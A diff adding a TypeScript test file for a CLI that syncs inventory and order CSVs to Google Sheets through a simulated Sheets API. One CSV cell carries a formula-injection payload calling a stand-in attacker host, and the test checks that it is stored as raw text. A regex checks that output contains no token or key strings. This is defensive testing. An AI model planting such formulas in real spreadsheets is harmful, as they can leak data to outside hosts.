@@ -1,0 +1,129 @@
+/**
+ * `--spreadsheet ID`: every CLI command through the real Sheets client against the twin over HTTP.
+ * Same core, same results: the same commands on a workbook file and on a spreadsheet leave identical
+ * cells; each command makes the same small number of requests whatever the row count; text that looks
+ * like a formula is written RAW; Google's errors reach the user with no token in them.
+ */
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { SheetsApiTwin } from '../../../twin/sheets-api';
+import { TwinSpreadsheet } from '../../../twin/spreadsheet';
+import { newWorkbookFile, readWorkbookFile } from '../../../twin/workbook-file';
+import { cli, cliWith, tempDir } from '../../support/cli';
+
+const TOKEN = 'ya29.secret-test-token';
+let twin: SheetsApiTwin;
+let doc: TwinSpreadsheet;
+let env: Record<string, string>;
+
+beforeEach(async () => {
+  doc = new TwinSpreadsheet(
+    newWorkbookFile('Shop', 'America/New_York'),
+    () => new Date('2026-11-23T15:00:00Z'),
+  );
+  twin = new SheetsApiTwin({ tokens: { [TOKEN]: 'sync@shop.iam' }, perMinute: 10_000 });
+  twin.add(doc);
+  env = { BACKORDER_DESK_SHEETS_URL: await twin.listen(), BACKORDER_DESK_ACCESS_TOKEN: TOKEN };
+});
+
+afterEach(async () => {
+  await twin.close();
+});
+
+function csvs(dir: string, lines: number) {
+  writeFileSync(
+    join(dir, 'i.csv'),
+    'SKU,Warehouse,Product,OnHand,LeadTimeDays,Vendor\nA,MAIN,Tile,15,7,Keystone\nB,MAIN,Grout,3,7,Keystone\n',
+  );
+  const rows = ['OrderID,Line,OrderDate,Customer,SKU,Qty,UnitPrice'];
+  for (let i = 0; i < lines; i++)
+    rows.push(
+      `SO-${i},1,2026-11-${String(1 + (i % 20)).padStart(2, '0')},${i === 0 ? '"=IMPORTXML(""http://attacker.example"",""//a"")"' : `Customer ${i % 7}`},${i % 2 ? 'A' : 'B'},${1 + (i % 4)},12.5`,
+    );
+  writeFileSync(join(dir, 'o.csv'), rows.join('\n'));
+  writeFileSync(
+    join(dir, 'p.csv'),
+    'PO,Line,Vendor,SKU,Qty,Warehouse,PromisedDate\nPO-1,1,Keystone,B,500,MAIN,2026-12-01\n',
+  );
+}
+
+const STORY = [
+  ['init'],
+  ['import', '--tab', 'Inventory', '--csv', 'i.csv'],
+  ['import', '--tab', 'Orders', '--csv', 'o.csv'],
+  ['import', '--tab', 'POs', '--csv', 'p.csv'],
+  ['do', 'allocate'],
+  ['do', 'ship', '--order', 'SO-1'],
+  ['do', 'receive', '--po', 'PO-1'],
+  ['do', 'fulfill'],
+  ['do', 'undo'],
+  ['aging'],
+  ['check'],
+];
+
+describe('the CLI on a Google spreadsheet (the twin over HTTP)', () => {
+  it('leaves exactly the cells a workbook file gets', async () => {
+    const dir = tempDir();
+    csvs(dir, 12);
+    for (const [n, args] of STORY.entries()) {
+      const id = ['--request-id', `step-${n}`];
+      const onFile = await cli(dir, ...(args as string[]), '--workbook', 'w.json', ...id);
+      const onSheet = await cliWith(env, dir, ...(args as string[]), '--spreadsheet', doc.id, ...id);
+      expect(onSheet.stderr).toBe('');
+      expect(onSheet.code).toBe(onFile.code);
+    }
+    const file = await readWorkbookFile(join(dir, 'w.json'));
+    const grid = (sheets: { properties: { title: string }; values: unknown[][] }[]) =>
+      Object.fromEntries(
+        sheets.map((s) => [s.properties.title, s.values.map((r) => r.map((c) => (c === null ? '' : c)))]),
+      );
+    expect(grid(doc.file.sheets as never)).toEqual(grid(file?.sheets as never));
+    expect(doc.file.sheets.find((s) => s.properties.title === 'Orders')?.values[1]?.[3]).toBe(
+      '=IMPORTXML("http://attacker.example","//a")',
+    );
+    expect(Object.keys(doc.file.sheets.find((s) => s.properties.title === 'Orders')?.formulas ?? {})).toEqual(
+      [],
+    );
+  });
+
+  it('makes the same few requests per command whatever the row count', async () => {
+    const counts: number[][] = [];
+    for (const lines of [10, 2000]) {
+      const dir = tempDir();
+      csvs(dir, lines);
+      for (const args of STORY.slice(0, 4))
+        await cliWith(env, dir, ...(args as string[]), '--spreadsheet', doc.id);
+      const before = twin.log.length;
+      await cliWith(env, dir, 'do', 'allocate', '--spreadsheet', doc.id);
+      const allocate = twin.log
+        .slice(before)
+        .map((r) => `${r.method} ${r.path.replace(/^.*\/v4\/spreadsheets\/[^/:]+/, '')}`);
+      counts.push([allocate.length]);
+      expect(allocate).toEqual(['GET ', 'GET /values:batchGet', 'POST /values:batchUpdate']);
+      doc.file.sheets = []; // a fresh spreadsheet for the next size
+    }
+    expect(counts[0]).toEqual(counts[1]);
+  });
+
+  it('reports Google’s refusals without leaking the token', async () => {
+    const dir = tempDir();
+    const wrong = await cliWith(
+      { ...env, BACKORDER_DESK_ACCESS_TOKEN: 'ya29.not-valid' },
+      dir,
+      'check',
+      '--spreadsheet',
+      doc.id,
+    );
+    expect(wrong.code).toBe(1);
+    expect(wrong.stderr).toMatch(/not allowed \(401\)/);
+    const missing = await cliWith(env, dir, 'check', '--spreadsheet', 'no-such-sheet');
+    expect(missing.stderr).toBe(
+      'backorder-desk: spreadsheets.get: spreadsheet not found (404). Check the spreadsheet ID.\n',
+    );
+    twin.faults.push({ status: 500, times: 10 });
+    const failing = await cliWith(env, dir, 'do', 'allocate', '--spreadsheet', doc.id);
+    for (const out of [wrong, missing, failing])
+      expect(`${out.stdout}${out.stderr}`).not.toMatch(/ya29|Bearer|private_key|BEGIN/);
+  });
+});
